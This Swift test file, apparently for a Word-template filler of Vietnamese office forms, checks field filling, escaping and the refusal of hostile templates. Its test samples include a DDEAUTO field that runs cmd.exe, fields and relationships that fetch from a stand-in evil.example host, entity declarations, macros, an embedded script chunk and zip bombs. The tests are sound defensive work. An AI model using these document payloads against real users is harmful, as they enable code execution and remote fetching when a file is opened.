import Foundation
import Testing

@testable import Papers

@Suite("An office's own forms") struct TemplateTests {
  /// A Word file around the body's XML, with more parts where a test wants them.
  static func file(_ body: String, _ more: [Zip.Part] = [], types: String = DOCX.contentTypes) throws -> [UInt8] {
    let document = "\(XML.head)<w:document \(DOCX.namespaces)><w:body>\(body)</w:body></w:document>"
    return try Zip.bytes(
      [
        Zip.Part("[Content_Types].xml", types), Zip.Part("_rels/.rels", DOCX.relations),
        Zip.Part("word/document.xml", document),
      ] + more)
  }

  private func text(_ bytes: [UInt8]) throws -> String {
    let part = try #require(try TemplateFile.parts(bytes).first { $0.name == "word/document.xml" })
    return String(decoding: part.bytes, as: UTF8.self).replacing("\n", with: "").replacing(
      #/<[^>]+>/#, with: "|"
    ).replacing(#/\|+/#, with: "|")
  }

  @Test("a field that Word cut into pieces is found and filled; what stands around it stays")
  func splitRuns() throws {
    let body = """
      <w:p><w:r><w:rPr><w:b/></w:rPr><w:t>Số {</w:t></w:r><w:proofErr w:type="x"/><w:r><w:t>{s</w:t></w:r>\
      <w:r><w:t>o}</w:t></w:r><w:r><w:t xml:space="preserve">} của {{ noi }}.</w:t></w:r></w:p>
      """
    let template = try Template(Self.file(body))
    #expect(template.fields == ["so", "noi"])
    let filled = try template.filled(.init(["so": "03-NQ/CB", "noi": "A & B <c>"]))
    #expect(try text(filled) == "|Số 03-NQ/CB| của A &amp; B &lt;c&gt;.|")
  }

  @Test("a row with fields of a list is repeated for each of its lines, and vanishes where there is none")
  func rows() throws {
    let cell = { (words: String) in "<w:tc><w:p><w:r><w:t>\(words)</w:t></w:r></w:p></w:tc>" }
    let body =
      "<w:tbl><w:tr>\(cell("TT"))</w:tr><w:tr>\(cell("{{viec.tt}}"))\(cell("{{viec.ten}}, {{noi}}"))</w:tr></w:tbl><w:p/>"
    let template = try Template(Self.file(body))
    let lines = [["tt": "1", "ten": "Sửa đèn"], ["tt": "2", "ten": "{{noi}}"]]
    let filled = try template.filled(.init(["noi": "An Hòa"], lists: ["viec": lines]))
    #expect(try text(filled) == "|TT|1|Sửa đèn, An Hòa|2|{{noi}}, An Hòa|")
    #expect(try text(try template.filled(.init(["noi": "x"], lists: ["viec": []]))) == "|TT|")
  }

  @Test("all unknown and all missing fields are named at once")
  func differences() throws {
    let template = try Template(Self.file("<w:p><w:r><w:t>{{so}} {{sai}} {{nua}}</w:t></w:r></w:p>"))
    #expect(throws: Template.Problem.fields(unknown: ["sai", "nua"], missing: ["ngay", "noi"])) {
      try template.check(known: ["so", "ngay", "noi"], needed: ["ngay", "noi", "so"])
    }
    try template.check(known: ["so", "sai", "nua"])
  }

  @Test("a value with line breaks becomes lines, and no value is read as a field again")
  func values() throws {
    let template = try Template(Self.file("<w:p><w:r><w:t>{{a}}</w:t></w:r></w:p>"))
    let bytes = try template.filled(.init(["a": "một\n{{b}}", "b": "không"]))
    #expect(try text(bytes) == "|một|{{b}}|")
  }

  @Test("macros, external links, entities and broken files are refused with the reason")
  func refused() throws {
    let link =
      "\(XML.head)<Relationships><Relationship Id=\"r\" Type=\"t\" Target=\"http://evil.example/x.dotm\" TargetMode=\"External\"/></Relationships>"
    let entity = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"b\">]><x>&a;</x>"
    let body = "<w:p/>"
    let cases: [([UInt8], Template.Problem)] = [
      (try Self.file(body, [Zip.Part("word/vbaProject.bin", "x")]), .macros),
      (
        try Self.file(body, types: DOCX.contentTypes.replacing("document.main", with: "document.macroEnabled.main")),
        .macros
      ),
      (
        try Self.file(body, [Zip.Part("word/_rels/document.xml.rels", link)]),
        .externalLink("http://evil.example/x.dotm")
      ),
      (try Self.file(body, [Zip.Part("word/header1.xml", entity)]), .entities("word/header1.xml")),
      (try Self.file("<w:p>"), .notWord("word/document.xml")),
      (Array("không phải Word".utf8), .notWord("zip")),
      (try Zip.bytes([Zip.Part("a.txt", "x")]), .notWord("word/document.xml")),
    ]
    for (bytes, problem) in cases { #expect(throws: problem) { _ = try Template(bytes) } }
  }

  @Test(
    "a field of Word's own that fetches something when the paper is opened is refused, also cut into pieces",
    arguments: [
      "<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe \"/k calc\"</w:instrText></w:r>",
      "<w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE http://evil.example/x</w:instrText></w:r>",
      "<w:fldSimple w:instr=\"LINK Excel.Sheet a b\"/>",
    ])
  func reachingFields(run: String) throws {
    let file = try Self.file("<w:p>\(run)</w:p>")
    let problem = #expect(throws: Template.Problem.self) { _ = try Template(file) }
    guard case .externalLink = problem else { throw try #require(problem) }
    _ = try Template(Self.file("<w:p><w:r><w:instrText> PAGE </w:instrText></w:r></w:p>"))
  }

  @Test("another document within the form, and a zip of a thousand files, are refused")
  func nested() throws {
    let chunk = try Self.file("<w:p/>", [Zip.Part("word/afchunk1.htm", "<script/>")])
    #expect(throws: Template.Problem.macros) { _ = try Template(chunk) }
    let many = try Self.file("<w:p/>", (0..<1000).map { Zip.Part("word/x\($0).xml", "<x/>") })
    #expect(throws: Template.Problem.notWord("zip")) { _ = try Template(many) }
  }

  @Test(
    "hostile values go into a form as words: markup, ]]>, marks of direction, control characters; a megabyte is refused"
  )
  func hostileValues() throws {
    let template = try Template(Self.file("<w:p><w:r><w:t>{{a}}</w:t></w:r></w:p>"))
    let filled = try template.filled(.init(["a": "]]><w:p/>&x; \u{202E}\u{0}đèn"]))
    #expect(try text(filled) == "|]]&gt;&lt;w:p/&gt;&amp;x; đèn|")
    let long = String(repeating: "a", count: 1_000_000)
    #expect(throws: PaperProblem.self) { _ = try template.filled(.init(["a": long])) }
  }

  @Test("a small file that unpacks to 40 MB is refused before it fills the memory")
  func bomb() throws {
    let bytes = try Self.file("<w:p/>", [Zip.Part("word/media/x.bin", [UInt8](repeating: 0, count: 40 * 1024 * 1024))])
    #expect(bytes.count < 1_000_000)
    #expect(throws: Template.Problem.tooLarge(limit: TemplateFile.largest)) { _ = try Template(bytes) }
  }

  @Test("a paper of ours can itself be opened as a form: what we write, we read")
  func ownPaper() throws {
    let stationery = try Samples.stationery()
    let bytes = try stationery.minutes(Samples.dialogue(), Samples.ward).docx(stationery.widths)
    #expect(try Template(bytes).fields.isEmpty)
  }
}
